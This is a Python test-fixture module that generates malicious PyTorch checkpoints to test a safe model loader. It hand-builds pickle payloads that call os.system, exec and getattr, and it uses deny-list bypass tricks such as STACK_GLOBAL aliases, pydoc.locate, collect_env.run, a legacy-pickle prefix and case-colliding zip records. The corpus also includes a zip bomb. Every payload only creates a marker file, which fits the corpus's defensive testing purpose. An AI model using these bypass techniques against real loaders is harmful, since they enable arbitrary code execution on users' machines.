"""Build a corpus of hostile checkpoints, each of which creates a marker file if anything runs it.

``build(folder, marker)`` writes the files and returns ``{name: path}``; nothing is committed as binary:
the tests build the corpus in a temporary folder. Payloads: the deny-list bypasses (dotted aliases via
``STACK_GLOBAL`` and protocol-0 ``GLOBAL``, a nested pickle, ``pydoc.locate``, ``torch.utils.collect_env.run``,
``doctest.debug_script``, ``torch.fx`` graph modules, ``logging.config.dictConfig``, ``codecs.open``,
``_pyio.open``, ``logging.FileHandler``, ``torch.save``, an uninstalled module), the parser differentials
(a legacy pickle before a zip, case-colliding ``data.pkl`` records), a model class called with arguments,
``INST``/``OBJ`` calls, modules whose state sets behaviour (a hook, ``forward``, ``_compiled_call_impl``), a zip
bomb, a stride-0 tensor and a truncated file.
"""

from __future__ import annotations

import io
import pickle
import zipfile
from pathlib import Path

import torch


def _zip(records: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
        for name, data in records.items():
            zf.writestr(name, data)
    return buf.getvalue()


def _global(module: str, name: str) -> bytes:
    """Protocol-2 ``GLOBAL module name``."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def _call(func: bytes, *args: str) -> bytes:
    """A pickle calling ``func(*args)`` (string arguments), protocol 2, then STOP."""
    out = b"\x80\x02" + func + b"("
    for a in args:
        out += b"X" + len(a.encode()).to_bytes(4, "little") + a.encode()
    return out + b"tR."


def _stack_call(module: str, name: str, *args: str) -> bytes:
    """Protocol-4 ``STACK_GLOBAL`` (any module/name text) called with string arguments."""

    def s(text: str) -> bytes:
        return b"\x8c" + bytes([len(text.encode())]) + text.encode()

    out = b"\x80\x04" + s(module) + s(name) + b"\x93("
    for a in args:
        out += s(a)
    return out + b"tR."


def payloads(marker: Path) -> dict[str, bytes]:
    """``{name: data.pkl bytes}`` of pickles that create ``marker`` when run."""
    m = str(marker)
    shell = f"touch {m}"
    code = f"open({m!r}, 'w').write('ran')"
    inner = pickle.dumps(_Exec(code), protocol=2)
    return {
        "os-system": _call(_global("os", "system"), shell),
        "exec": _call(_global("builtins", "exec"), code),
        "stack-global-alias": _stack_call("torch.serialization", "os.system", shell),
        "proto0-global-alias": b"ctorch.serialization\nos.system\n(S'" + shell.encode() + b"'\ntR.",
        "nested-pickle": _call(_global("pickle", "loads"), "").replace(
            b"X\x00\x00\x00\x00", b"C" + bytes([len(inner)]) + inner
        )
        if len(inner) < 256
        else _call(_global("os", "system"), shell),
        "pydoc-locate": _call(_global("pydoc", "locate"), "os.system"),
        "collect-env-run": _call(_global("torch.utils.collect_env", "run"), shell),
        "doctest-debug-script": _call(_global("doctest", "debug_script"), f"import os; os.system('{shell}')"),
        "fx-reduce-graph-module": _call(_global("torch.fx.graph_module", "reduce_graph_module"), code),
        "logging-dictconfig": _call(_global("logging.config", "dictConfig"), m),
        "codecs-open": _call(_global("codecs", "open"), m, "w"),
        "pyio-open": _call(_global("_pyio", "open"), m, "w"),
        "logging-filehandler": _call(_global("logging", "FileHandler"), m),
        "torch-save": _call(_global("torch", "save"), "x", m),
        "uninstalled-module": _call(_global("evil_module_that_is_not_installed", "run"), shell),
        "model-class-called": _call(_global("ultralytics.nn.tasks", "DetectionModel"), m),
        "torchvision-block-called": _call(_global("ultralytics.nn.modules.block", "TorchVision"), m),
        "inst-opcode": b"(S'" + shell.encode() + b"'\nios\nsystem\n.",
        "obj-opcode": b"\x80\x02("
        + _global("os", "system")
        + b"X"
        + len(shell).to_bytes(4, "little")
        + shell.encode()
        + b"o.",
        "getattr-builtins": _call(_global("builtins", "getattr"), "os", "system"),
    }


def _text(text: str) -> bytes:
    return b"X" + len(text).to_bytes(4, "little") + text.encode()


def behaviour_payloads() -> dict[str, bytes]:
    """``{name: data.pkl bytes}`` of modules whose state sets behaviour to an allowed class: a forward hook
    filled after the state was given, ``_compiled_call_impl``, ``forward``."""
    module = b"\x80\x02ctorch.nn.modules.linear\nIdentity\n)\x81q\x00}(" + _text("training") + b"\x88"
    model = _global("ultralytics.nn.tasks", "DetectionModel")
    return {
        "module-hook-after-state": module
        + _text("_forward_hooks")
        + b"ccollections\nOrderedDict\n)Rq\x01ubh\x01K\x00"
        + model
        + b"s0.",
        "module-compiled-call": module + _text("_compiled_call_impl") + model + b"ub.",
        "module-forward": module + _text("forward") + model + b"ub.",
    }


class _Exec:
    def __init__(self, code: str) -> None:
        self.code = code

    def __reduce__(self):
        import builtins

        return (builtins.exec, (self.code,))


def build(folder: Path, marker: Path) -> dict[str, Path]:
    """Write the hostile corpus into ``folder``; return ``{name: file}``."""
    folder.mkdir(parents=True, exist_ok=True)
    out: dict[str, Path] = {}
    for name, data in payloads(marker).items():
        path = folder / f"{name}.pt"
        path.write_bytes(_zip({"archive/data.pkl": data, "archive/version": b"3\n"}))
        out[name] = path
    clean = io.BytesIO()
    torch.save({"w": torch.zeros(2)}, clean)
    clean_zip = zipfile.ZipFile(io.BytesIO(clean.getvalue()))
    records = {n: clean_zip.read(n) for n in clean_zip.namelist()}
    evil = payloads(marker)["os-system"]
    legacy = folder / "legacy-prefix.pt"  # a legacy pickle torch would run, in front of a valid zip
    legacy.write_bytes(evil + clean.getvalue())
    out["legacy-prefix"] = legacy
    prefix = next(n for n in records if n.endswith("data.pkl"))[: -len("data.pkl")]
    colliding = folder / "case-colliding.pt"
    colliding.write_bytes(_zip({**records, f"{prefix}DATA.PKL": evil}))
    out["case-colliding"] = colliding
    two = folder / "two-records.pt"
    two.write_bytes(_zip({**records, "other/data.pkl": evil}))
    out["two-records"] = two
    bomb = folder / "zip-bomb.pt"  # 64 MiB of zeros, deflated to a few kB
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for n, data in records.items():
            zf.writestr(n, data)
        zf.writestr(f"{prefix}data/9", b"\0" * (64 * 2**20))
    bomb.write_bytes(buf.getvalue())
    out["zip-bomb"] = bomb
    expanded = folder / "stride-0.pt"  # 4 bytes of storage viewed as 2**30 floats
    t = torch.zeros(1).expand(2**30)
    b2 = io.BytesIO()
    torch.save({"w": t}, b2)
    expanded.write_bytes(b2.getvalue())
    out["stride-0"] = expanded
    for name, data in behaviour_payloads().items():  # load, but would call an allowed class when used
        path = folder / f"{name}.pt"
        path.write_bytes(_zip({"archive/data.pkl": data, "archive/version": b"3\n"}))
        out[name] = path
    truncated = folder / "truncated.pt"
    b3 = io.BytesIO()
    torch.save({"w": torch.arange(10000, dtype=torch.float32)}, b3)
    truncated.write_bytes(b3.getvalue()[: len(b3.getvalue()) // 2])
    out["truncated"] = truncated
    return out
